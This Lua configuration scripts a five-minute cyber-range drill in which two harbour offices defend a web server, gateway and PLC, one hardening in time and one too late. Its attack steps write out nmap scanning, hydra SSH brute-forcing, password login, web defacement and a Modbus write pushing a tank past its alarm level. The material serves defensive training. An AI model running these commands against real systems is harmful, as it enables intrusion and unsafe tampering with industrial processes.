-- First drill: two harbour offices, one attacker, five minutes.
-- One team's player hardens its machines in time, the other's does not.

local weak = "harbour" -- the planted password, in the attacker's word list
local strong = "rQ7-pilot-lamp-31"

-- One command on the web server, as the clerk.
local function ssh(command)
  return { "sshpass", "-p", weak, "ssh", "-o", "StrictHostKeyChecking=no",
           "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
           "-o", "ConnectTimeout=15", "-o", "NumberOfPasswordPrompts=1",
           "-o", "PubkeyAuthentication=no", "clerk@${to}", command }
end

-- What a good team does first: no weak passwords, nobody from the office writes to the PLC.
local function harden(range, me)
  local web, gate = me:machine("web"), me:machine("gate")
  assert(web:exec { "sh", "-c", "echo clerk:" .. strong .. " | chpasswd" })
  assert(gate:write("/etc/nftables.conf", [[
table inet border {
  counter plc { }
  chain forward {
    type filter hook forward priority 0; policy accept;
    ip daddr 10.20.2.10 tcp dport 502 counter name plc drop
  }
}
]]))
  assert(gate:exec { "nft", "-f", "/etc/nftables.conf" })
  range.note("Harbour North has changed the clerk's password and closed the PLC at the gate")
end

-- The same knowledge, minutes too late: the password goes after the attacker has been in.
local function too_late(range, me)
  range.sleep("4m")
  assert(me:machine("web"):exec { "sh", "-c", "echo clerk:" .. strong .. " | chpasswd" })
  range.note("Harbour South has changed the clerk's password")
end

return {
  title = "First drill",
  version = "1",
  duration = "5m",
  seed = 7,

  teams = {
    blue = { role = "blue", count = 2, titles = { "Harbour North", "Harbour South" } },
    red  = { role = "red", titles = { "Red cell" } },
  },

  networks = {
    office = { team = "blue", cidr = "10.20.1.0/24", gateway = "gate" },
    plant  = { team = "blue", cidr = "10.20.2.0/24", gateway = "gate" },
  },

  machines = {
    web = {
      team = "blue", image = "server", memory = "160M",
      nics = { office = "10.20.1.10" },
      files = {
        ["/var/www/html/index.html"] = "<h1>Harbour office</h1>\n<p>Berths, tides and pilots.</p>\n",
      },
      setup = {
        { "useradd", "-m", "-s", "/bin/bash", "clerk" },
        { "sh", "-c", "echo clerk:" .. weak .. " | chpasswd" },
        { "chown", "-R", "clerk", "/var/www/html" },
      },
    },
    gate = {
      team = "blue", image = "server", memory = "160M", forward = true,
      nics = { office = "10.20.1.1", plant = "10.20.2.1" },
    },
    plc = {
      team = "blue", image = "plc", memory = "128M",
      nics = { plant = "10.20.2.10" },
    },
    attacker = {
      team = "red", image = "attacker", memory = "192M",
      nics = { office = "10.20.1.66" },
      files = {
        ["/root/users.txt"] = "admin\nclerk\n",
        ["/root/words.txt"] = "123456\npassword\n" .. weak .. "\n",
      },
    },
  },

  services = {
    site  = { title = "Web site", points = 5, every = 15, sla = { after = 3, penalty = 10 },
              check = { http = { on = "web", path = "/", contains = "Harbour office" } } },
    ssh   = { title = "Remote log-in", points = 2, every = 15, sla = { after = 3, penalty = 5 },
              check = { ssh = { on = "web", timeout = "12s" } } },
    gate  = { title = "Plant gateway", points = 2, every = 15, sla = { after = 3, penalty = 5 },
              check = { ping = { on = "gate" } } },
    plc   = { title = "PLC port", points = 2, every = 15, sla = { after = 3, penalty = 5 },
              check = { tcp = { on = "plc", port = 502 } } },
    tank  = { title = "Tank level in band", points = 5, every = 15, sla = { after = 3, penalty = 20 },
              check = { modbus = { on = "plc", table = "input", address = 0, min = 150, max = 350 } } },
  },

  steps = {
    recon = {
      title = "Find the office's services",
      attack = { domain = "enterprise", version = "18.1", id = "T1046" },
      from = "attacker", to = "web", limit = "60s",
      act = { { "nmap", "-n", "-Pn", "-sT", "-p", "22,80,443,502", "-oN", "/root/scan-${team}.txt", "${to}" } },
      effect = { file = { on = "attacker", path = "/root/scan-${team}.txt", contains = "22/tcp  open" } },
      probe = { tcp = { on = "web", port = 80 } },
      points = { effect = 5, blocked = 10 },
    },
    guess = {
      title = "Guess the clerk's password",
      attack = { domain = "enterprise", version = "18.1", id = "T1110.001" },
      from = "attacker", to = "web", needs = "recon", limit = "70s",
      act = { { "hydra", "-I", "-t", "2", "-L", "/root/users.txt", "-P", "/root/words.txt",
                "-o", "/root/creds-${team}.txt", "ssh://${to}" } },
      effect = { file = { on = "attacker", path = "/root/creds-${team}.txt",
                          contains = "login: clerk" } },
      probe = { ssh = { on = "web", timeout = "15s" } },
      blocked_by = { log = { on = "web", path = "/var/log/auth.log",
                             contains = "Failed password for clerk" } },
      points = { effect = 20, blocked = 20 },
    },
    login = {
      title = "Log in as the clerk",
      attack = { domain = "enterprise", version = "18.1", id = "T1078" },
      from = "attacker", to = "web", needs = "recon", limit = "60s",
      act = { ssh("id") },
      effect = { log = { on = "web", path = "/var/log/auth.log",
                         contains = "Accepted password for clerk" } },
      probe = { ssh = { on = "web", timeout = "15s" } },
      blocked_by = { log = { on = "web", path = "/var/log/auth.log",
                             contains = "Failed password for clerk" } },
      points = { effect = 20, blocked = 20 },
    },
    deface = {
      title = "Deface the office's web site",
      attack = { domain = "enterprise", version = "18.1", id = "T1491" },
      from = "attacker", to = "web", needs = "login", limit = "60s",
      act = { ssh("echo '<h1>Tide is out</h1>' > /var/www/html/index.html") },
      effect = { http = { on = "web", path = "/", contains = "Tide is out" } },
      probe = { tcp = { on = "web", port = 80 } },
      undo = { ssh("echo '<h1>Harbour office</h1>' > /var/www/html/index.html") },
      points = { effect = 30, blocked = 20 },
    },
    setpoint = {
      title = "Raise the tank's set-point over Modbus",
      attack = { domain = "ics", version = "18.1", id = "T0836" },
      from = "attacker", to = "plc", needs = "recon", limit = "30s", within = "75s",
      act = { { "mbpoll", "-m", "tcp", "-a", "1", "-t", "4", "-r", "1", "-1", "-q",
                "${to}", "480" } },
      -- the register alone would not do: the tank must really rise over its alarm level
      effect = { all = {
        { modbus = { on = "plc", table = "holding", address = 0, min = 480, max = 480 } },
        { modbus = { on = "plc", table = "input", address = 0, min = 400, max = 500 } },
      } },
      probe = { modbus = { on = "plc", table = "holding", address = 0, min = 0, max = 500 } },
      blocked_by = { any = {
        { grew = { on = "gate", argv = { "nft", "list", "counter", "inet", "border", "plc" } } },
        { log = { on = "plc", path = "/var/log/plc.log", contains = "denied" } },
      } },
      undo = { { "mbpoll", "-m", "tcp", "-a", "1", "-t", "4", "-r", "1", "-1", "-q",
                 "${to}", "250" } },
      points = { effect = 40, blocked = 30 },
    },
  },

  players = {
    north = { team = "blue1", title = "Hardens in time", at = "3s", play = harden },
    south = { team = "blue2", title = "Reads the news first", at = "3s", play = too_late },
  },

  timeline = {
    { at = "0s", note = "The drill begins: keep the services up" },
    { at = "25s", step = "recon" },
    { at = "50s", step = "guess" },
    { at = "2m10s", step = "login" },
    { at = "2m25s", step = "deface" },
    { at = "2m40s", step = "setpoint" },
    { at = "4m30s", note = "Thirty seconds left" },
    { at = "4m40s", step = "setpoint", undo = true },
  },
}
